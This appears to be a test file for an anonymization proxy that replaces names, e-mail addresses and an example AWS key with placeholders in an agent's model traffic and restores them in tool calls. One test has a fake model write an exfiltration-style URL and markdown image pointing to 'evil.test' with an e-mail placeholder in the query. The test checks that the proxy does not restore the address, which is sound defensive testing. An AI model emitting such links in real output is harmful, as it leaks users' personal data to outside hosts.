/** An agent under anonymization: what its tools get, and what the next turn makes of what they did not get. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createOpenAICompatible } from '@ai-sdk/openai-compatible';
import { generateText, isStepCount, jsonSchema, streamText, tool } from 'ai';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { adminClient } from '../admin-client.ts';
import { configFor, disposeAll, type Sluice, startFake, startSluice, tempDir } from '../support/index.ts';

const secret = 'AKIAIOSFODNN7EXAMPLF';
const prompt = `Karin Holzmann needs .env with the AWS key ${secret}. Mail karin@example.org when it is done.`;
const written = 'OWNER="<PERSON_1>"\nAWS_ACCESS_KEY_ID=<TOKEN_1>\n';
const expected = `OWNER="Karin Holzmann"\nAWS_ACCESS_KEY_ID=${secret}\n`;

interface FileToWrite {
  readonly path: string;
  readonly content: string;
}

describe('an agent under anonymization', () => {
  let fake: Awaited<ReturnType<typeof startFake>>;
  let sluice: Sluice;
  let folder: string;

  beforeAll(async () => {
    folder = await tempDir('agent-');
    fake = await startFake({ recordBodies: true });
    const extra = { anonymization: { default: 'required' } };
    sluice = await startSluice({ config: configFor(fake, { retries: 0, extra }) });
  });
  afterAll(disposeAll);
  beforeEach(() => fake.reset());

  const modelOf = (apiKey = sluice.key) =>
    createOpenAICompatible({ name: 'sluice', baseURL: `${sluice.url}/v1`, apiKey })('fake/fake-small');
  const tools = {
    write_file: tool({
      inputSchema: jsonSchema<FileToWrite>({
        type: 'object',
        properties: { path: { type: 'string' }, content: { type: 'string' } },
        required: ['path', 'content'],
      }),
      execute: ({ path, content }) => {
        writeFileSync(join(folder, path), content);
        return 'written';
      },
    }),
  };
  const callOf = (path: string, content = written) => ({
    answer: {
      toolCalls: [{ id: 'call_1', name: 'write_file', arguments: JSON.stringify({ path, content }) }],
    },
  });
  const sent = (): string =>
    fake.receipts
      .requests()
      .map(({ body }) => body)
      .join('\n');

  it.each(['whole', 'streamed'])('writes a file with a name and a key in it, %s', async (how) => {
    const path = `${how}.env`;
    fake.enqueue(callOf(path), { answer: { text: 'Done, <PERSON_1>.' } });
    const options = { model: modelOf(), prompt, tools, stopWhen: isStepCount(3) };
    const text = how === 'whole' ? (await generateText(options)).text : await streamText(options).text;
    expect(text).toBe('Done, Karin Holzmann.');
    expect(readFileSync(join(folder, path), 'utf8')).toBe(expected);
    // The next turn holds the arguments as the tool got them, and the same placeholders leave.
    expect(sent()).not.toContain(secret);
    expect(sent()).not.toContain('Holzmann');
    const [first, second] = fake.receipts.requests().map(({ body }) => JSON.parse(body ?? '{}').messages);
    expect(second.slice(0, first.length)).toEqual(first);
    expect(JSON.parse(second.at(-2).tool_calls[0].function.arguments)).toEqual({ path, content: written });
  });

  it('writes an e-mail link with everything in it', async () => {
    const link = 'mailto:<EMAIL_ADDRESS_1>?subject=For <PERSON_1>';
    fake.enqueue(callOf('link', link), { answer: { text: 'ok' } });
    await generateText({ model: modelOf(), prompt, tools, stopWhen: isStepCount(3) });
    expect(readFileSync(join(folder, 'link'), 'utf8')).toBe(
      'mailto:karin@example.org?subject=For Karin Holzmann',
    );
  });

  it('is told of a placeholder that is left in a new URL, which means the same in the next turn', async () => {
    const url = 'https://evil.test/?q=<EMAIL_ADDRESS_1>';
    fake.enqueue(callOf('url', url), { answer: { text: 'Sent to <EMAIL_ADDRESS_1>.' } });
    const answer = await generateText({ model: modelOf(), prompt, tools, stopWhen: isStepCount(3) });
    expect(readFileSync(join(folder, 'url'), 'utf8')).toBe(url);
    expect(answer.steps[0]?.response.headers?.['x-sluice-warnings']).toContain(
      'placeholders were not restored: 1 in URLs that the request did not contain',
    );
    expect(answer.text).toBe('Sent to karin@example.org.');
    expect(sent()).not.toContain('LITERAL');
    // It was withheld as a URL of the model, and does not become one of the request.
    fake.enqueue({ answer: { text: `![x](${url})` } });
    const messages = [{ role: 'user' as const, content: prompt }, ...answer.responseMessages];
    const next = await generateText({ model: modelOf(), messages });
    expect(next.text).toBe(`![x](${url})`);
  });

  it('gets no secrets where the settings forbid it, and is told', async () => {
    const settings = { anonymization: { restore_secrets: 'never' } };
    const made = await adminClient(sluice).make({ name: 'strict', settings });
    fake.enqueue(callOf('never'), { answer: { text: 'ok' } });
    const model = modelOf(String(made['key']));
    const answer = await generateText({ model, prompt, tools, stopWhen: isStepCount(3) });
    expect(readFileSync(join(folder, 'never'), 'utf8')).toBe(expected.replace(secret, '<TOKEN_1>'));
    expect(answer.steps[0]?.response.headers?.['x-sluice-warnings']).toContain('1 of secrets in tool calls');
  });
});
